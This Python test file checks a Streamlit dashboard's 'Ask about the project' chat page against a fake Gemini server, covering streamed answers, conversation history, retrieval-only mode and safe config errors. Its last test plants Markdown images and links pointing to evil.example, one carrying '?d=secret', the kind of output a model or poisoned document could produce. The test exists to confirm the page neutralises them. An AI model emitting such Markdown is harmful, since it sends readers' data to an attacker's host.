"""The dashboard page "Ask about the project", run by Streamlit's AppTest against a loopback Gemini."""

from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from .conftest import DECISION_ID, KEY, RUN_ID

APP = Path(__file__).resolve().parents[2] / "dashboards" / "app.py"


def _ask_page() -> AppTest:
    """The dashboard at /ask, as a browser opening that address (pages run only through app.py)."""
    from tests.dashboard.conftest import goto

    return goto(AppTest.from_file(str(APP), default_timeout=60), "ask").run()


@pytest.fixture(autouse=True)
def _fresh_streamlit_caches():
    st.cache_data.clear()
    st.cache_resource.clear()
    yield
    st.cache_data.clear()
    st.cache_resource.clear()


@pytest.fixture
def page_env(project, tmp_path, monkeypatch, retriever):
    def configure(**reviewer):
        config = project.write_config(tmp_path / "eh.toml", **reviewer)
        monkeypatch.setenv("EVALHARNESS_CONFIG", str(config))
        monkeypatch.setenv("EVALHARNESS_DB", str(project.db))
    return configure


def _texts(message) -> str:
    """What the person reads (the page escapes every Markdown character of model and document text)."""
    return "\n".join(m.value for m in message.markdown).replace("\\", "")


def test_the_assessment_streams_in_and_follow_ups_carry_history(page_env, fake_gemini, monkeypatch):
    page_env()
    monkeypatch.setenv("GOOGLE_API_KEY", KEY)
    monkeypatch.setenv("GOOGLE_GEMINI_BASE_URL", fake_gemini.base_url)  # read by the SDK itself
    fake_gemini.script = [["The project ", f"reverted stoney-v2 [decision:{DECISION_ID}]."],
                          ["Because ", "chrF++ fell."]]
    at = _ask_page()
    assert not at.exception
    assert at.title[0].value == "Ask about the project"
    assert not at.info  # a key is set: no retrieval-only notice
    assert f"The project reverted stoney-v2 [decision:{DECISION_ID}]." in _texts(at.chat_message[0])
    assert f"- decision:{DECISION_ID}" in _texts(at.chat_message[0])  # the citation is shown
    at.chat_input[0].set_value("Why was stoney-v2 reverted?").run()
    assert not at.exception
    assert [m.name for m in at.chat_message] == ["assistant", "user", "assistant"]
    assert "Because chrF++ fell." in _texts(at.chat_message[2])
    second = fake_gemini.stream_requests()[1]
    assert fake_gemini.turns(second)[1] == ("model", f"The project reverted stoney-v2 [decision:{DECISION_ID}].")
    page_text = " ".join(_texts(m) for m in at.chat_message) + " ".join(e.value for e in at.markdown)
    assert KEY not in page_text


def test_without_a_key_the_page_shows_retrieval_only(page_env, fake_gemini):
    page_env(base_url=fake_gemini.base_url)
    at = _ask_page()
    assert not at.exception
    assert "retrieval only" in at.info[0].value
    first = _texts(at.chat_message[0])
    assert "No model answered" in first and f"[run:{RUN_ID}]" in first
    assert fake_gemini.requests == []


def test_a_bad_config_is_shown_not_raised(page_env, monkeypatch, tmp_path):
    bad = tmp_path / "bad.toml"
    bad.write_text("[reviewer]\nmodle = 'x'\n")
    monkeypatch.setenv("EVALHARNESS_CONFIG", str(bad))
    at = _ask_page()
    assert not at.exception
    # The browser gets a plain message (no config path or key names); the server's log has the details.
    assert "settings could not be read" in at.error[0].value and "modle" not in at.error[0].value


def test_an_answer_cannot_become_a_link_or_an_image(page_env, fake_gemini, monkeypatch):
    """A model (or a poisoned document it quotes) that writes Markdown images would make every reader's browser
    fetch the attacker's URL; the page shows the text as typed instead."""
    from tests.dashboard.conftest import links_and_images

    page_env()
    monkeypatch.setenv("GOOGLE_API_KEY", KEY)
    monkeypatch.setenv("GOOGLE_GEMINI_BASE_URL", fake_gemini.base_url)
    hostile = "![x](https://evil.example/?d=secret) [click](https://evil.example/x)"
    fake_gemini.script = [["Summary: ", hostile], [hostile]]
    at = _ask_page()
    at.chat_input[0].set_value("[q](https://evil.example/q) ![i](https://evil.example/i)").run()
    assert not at.exception
    bodies = [m.value for message in at.chat_message for m in message.markdown]
    assert any("evil.example" in b.replace("\\", "") for b in bodies)  # shown, as typed
    assert [found for b in bodies for found in links_and_images(b)] == []
